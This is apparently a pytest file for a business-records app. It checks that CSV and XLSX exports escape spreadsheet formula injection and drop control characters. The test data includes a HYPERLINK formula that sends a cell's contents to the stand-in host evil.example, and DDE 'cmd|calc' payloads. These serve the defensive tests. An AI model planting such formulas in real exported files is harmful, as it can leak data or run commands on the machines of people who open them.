"""Files a person opens in a spreadsheet never carry a live formula or a character XLSX cannot
hold, whatever was typed on some laptop and synced here."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from gmsdesk.records import REGISTRY
from gmsdesk.storage.db import Database
from gmsdesk.tabular import csv_cell, write_table
from gmsdesk.transfer import export_smes

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for your certificate")'


@pytest.mark.parametrize(("typed", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+855 12 345 678", "+855 12 345 678"),  # a phone number stays one
    ("-1500", "-1500"),
    ("(023) 456-789", "(023) 456-789"),
    ("Angkor\x00 Silk\x1b", "Angkor Silk"),
    ("សូត្រអង្គរ", "សូត្រអង្គរ"),
])
def test_a_csv_cell_is_never_a_formula(typed: str, written: str) -> None:
    assert csv_cell(typed) == written


def test_xlsx_cells_are_text_not_formulas(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_table(path, ["name", "phone"], [[HYPERLINK, "+855 12 345 678"],
                                          ["Null\x00 shop", -5]])
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HYPERLINK
    assert sheet["B2"].value == "+855 12 345 678"
    assert (sheet["A3"].value, sheet["B3"].value) == ("Null shop", -5)


def test_a_formula_typed_on_one_laptop_is_text_in_anothers_export(enrolled: Any,
                                                                  tmp_path: Path) -> None:
    a, client_a = enrolled("kh-sr", "a")
    b, client_b = enrolled("kh-sr", "b")
    a.smes.create({"name": HYPERLINK, "country": "KH", "notes": "=1+1"})
    client_a.sync()
    client_b.sync()
    export_smes(b, tmp_path / "smes.xlsx")
    export_smes(b, tmp_path / "smes.csv")
    sheet = openpyxl.load_workbook(tmp_path / "smes.xlsx").active
    assert sheet is not None
    names = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == HYPERLINK]
    assert names and all(c.data_type == "s" for c in names)
    with open(tmp_path / "smes.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["name"] == "'" + HYPERLINK and rows[0]["notes"] == "'=1+1"


def test_control_characters_are_dropped_when_typed_and_refused_by_sync(db: Database) -> None:
    [made] = db.smes.create({"name": "Mekong\x00 Rice\x07", "notes": "line one\nline\ttwo\x0c"})
    sme = db.smes.get(made.record_id)
    assert (sme.name, sme.notes) == ("Mekong Rice", "line one\nline\ttwo")
    name = REGISTRY["smes"].field("name")
    assert name.check("Mekong\x00 Rice") == "holds a control character"
    assert not name.plainly_valid("Mekong\x00 Rice")
    assert name.check("Mekong\nRice") is None


def test_a_nul_stored_by_an_older_release_no_longer_breaks_the_export(db: Database,
                                                                     tmp_path: Path) -> None:
    [made] = db.smes.create({"name": "Old Market Crafts", "country": "KH"})
    with db.atomic():
        db.conn.execute("UPDATE smes SET name = ? WHERE id = ?",
                        ("Old\x00 Market", made.record_id))
    assert export_smes(db, tmp_path / "smes.xlsx") == 1
    sheet = openpyxl.load_workbook(tmp_path / "smes.xlsx").active
    assert sheet is not None
    assert "Old Market" in [c.value for row in sheet.iter_rows(min_row=2) for c in row]
